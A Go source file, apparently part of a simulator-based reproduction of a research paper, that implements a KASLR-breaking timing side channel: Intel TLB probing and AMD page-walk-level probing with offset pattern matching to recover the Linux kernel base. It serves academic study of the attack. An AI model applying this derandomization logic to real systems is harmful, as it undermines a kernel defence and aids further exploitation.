@@ -1,0 +1,151 @@
+package core
+
+import (
+	"fmt"
+
+	"repro/internal/linux"
+	"repro/internal/paging"
+	"repro/internal/uarch"
+)
+
+// OffsetSample is one probed kernel offset for the Figure 4 scatter.
+type OffsetSample struct {
+	Slot   int
+	VA     paging.VirtAddr
+	Cycles float64
+	Mapped bool
+}
+
+// KernelBaseResult is the outcome of a kernel-base derandomization.
+type KernelBaseResult struct {
+	// Base is the recovered kernel text base (0 if none found).
+	Base paging.VirtAddr
+	// Slide is Base minus the region start (the KASLR slide).
+	Slide uint64
+	// Samples holds the per-offset measurements (the Fig. 4 data).
+	Samples []OffsetSample
+	// ProbeCycles is the cycle cost of the probing loop alone; TotalCycles
+	// additionally includes calibration and decision logic (Table I's
+	// "Probing" vs "Total" columns).
+	ProbeCycles uint64
+	TotalCycles uint64
+}
+
+// ProbeSeconds returns the probing runtime in seconds.
+func (r KernelBaseResult) ProbeSeconds(p *uarch.Preset) float64 {
+	return p.CyclesToSeconds(r.ProbeCycles)
+}
+
+// TotalSeconds returns the total runtime in seconds.
+func (r KernelBaseResult) TotalSeconds(p *uarch.Preset) float64 {
+	return p.CyclesToSeconds(r.TotalCycles)
+}
+
+// KernelBase derandomizes the Linux kernel text base (§IV-B).
+//
+// On Intel it probes all 512 candidate slots with the double-execution
+// page-table attack (P2) and reports the first mapped slot. On AMD — where
+// mapped kernel pages never enter the TLB, so P2 yields nothing — it falls
+// back to the walk-termination-level attack (P3) against the kernel's five
+// 4 KiB-structured pages, whose offsets from the base are build constants.
+func KernelBase(p *Prober) (KernelBaseResult, error) {
+	start := p.M.RDTSC()
+	var res KernelBaseResult
+	if p.M.Preset.Vendor == uarch.AMD {
+		r, err := kernelBaseAMD(p)
+		if err != nil {
+			return r, err
+		}
+		res = r
+	} else {
+		res = kernelBaseIntel(p)
+	}
+	res.TotalCycles = p.M.RDTSC() - start + res.calibrationCycles(p)
+	if res.Base != 0 {
+		res.Slide = uint64(res.Base) - uint64(linux.TextRegionBase)
+	}
+	return res, nil
+}
+
+// calibrationCycles attributes the prober's one-time calibration cost to
+// this attack's total runtime (the paper's Total column includes it).
+func (KernelBaseResult) calibrationCycles(p *Prober) uint64 {
+	n := uint64(p.Opt.CalibrationPages)
+	per := uint64(p.M.Preset.MaskedStoreBase + p.M.Preset.AssistDirty +
+		p.M.Preset.FenceOverhead + p.M.Preset.LoopOverhead)
+	return n*per + 2*uint64(p.M.Preset.SyscallCost)
+}
+
+func kernelBaseIntel(p *Prober) KernelBaseResult {
+	var res KernelBaseResult
+	probeStart := p.M.RDTSC()
+	firstMapped := -1
+	for slot := 0; slot < linux.TextSlots; slot++ {
+		va := linux.TextRegionBase + paging.VirtAddr(uint64(slot)<<21)
+		pr := p.ProbeMapped(va)
+		res.Samples = append(res.Samples, OffsetSample{Slot: slot, VA: va, Cycles: pr.Cycles, Mapped: pr.Fast})
+		if pr.Fast && firstMapped < 0 {
+			firstMapped = slot
+		}
+	}
+	res.ProbeCycles = p.M.RDTSC() - probeStart
+	if firstMapped >= 0 {
+		res.Base = linux.TextRegionBase + paging.VirtAddr(uint64(firstMapped)<<21)
+	}
+	return res
+}
+
+// kernelBaseAMD mounts the §IV-B AMD attack: classify every slot by walk
+// termination (a slot whose boundary walk reaches a PT is "4 KiB-
+// structured"), then align the observed 4 KiB-slot pattern against the
+// build-constant offsets of the five 4 KiB pages.
+func kernelBaseAMD(p *Prober) (KernelBaseResult, error) {
+	var res KernelBaseResult
+	probeStart := p.M.RDTSC()
+
+	// The PT-terminating walk reads one more paging structure than a
+	// PD-terminating one; with evicted PTE lines that is one full memory
+	// access (~PTELineMiss cycles) — a robust margin.
+	preset := p.M.Preset
+	ptThreshold := preset.MaskedLoadBase + preset.AssistLoad + preset.FenceOverhead +
+		(preset.Walk.PD+preset.Walk.PT)/2 + 3.5*preset.PTELineMiss
+
+	// The level signal (one extra cold PTE line) is subtler than the
+	// Intel TLB-hit signal, so each slot is sampled 16× with targeted
+	// eviction and reduced by minimum — this is what makes the AMD
+	// probing ~1.9 ms instead of ~67 µs (Table I).
+	const amdSamples = 16
+	fourKSlots := make([]bool, linux.TextSlots)
+	for slot := 0; slot < linux.TextSlots; slot++ {
+		va := linux.TextRegionBase + paging.VirtAddr(uint64(slot)<<21)
+		tp := p.ProbeTermLevel(va, amdSamples)
+		isPT := tp.Cycles > ptThreshold
+		fourKSlots[slot] = isPT
+		res.Samples = append(res.Samples, OffsetSample{Slot: slot, VA: va, Cycles: tp.Cycles, Mapped: isPT})
+	}
+	res.ProbeCycles = p.M.RDTSC() - probeStart
+
+	// Match the observed pattern against the known slot offsets of the
+	// five 4 KiB pages.
+	wantSlots := make([]int, 0, 5)
+	for _, off := range linux.FourKOffsets() {
+		wantSlots = append(wantSlots, int(off>>21))
+	}
+	bestBase, bestScore := -1, -1
+	for base := 0; base < linux.TextSlots-linux.ImageSlots; base++ {
+		score := 0
+		for _, ws := range wantSlots {
+			if fourKSlots[base+ws] {
+				score++
+			}
+		}
+		if score > bestScore {
+			bestScore, bestBase = score, base
+		}
+	}
+	if bestScore < len(wantSlots)-1 {
+		return res, fmt.Errorf("core: AMD pattern match too weak (score %d/%d)", bestScore, len(wantSlots))
+	}
+	res.Base = linux.TextRegionBase + paging.VirtAddr(uint64(bestBase)<<21)
+	return res, nil
+}
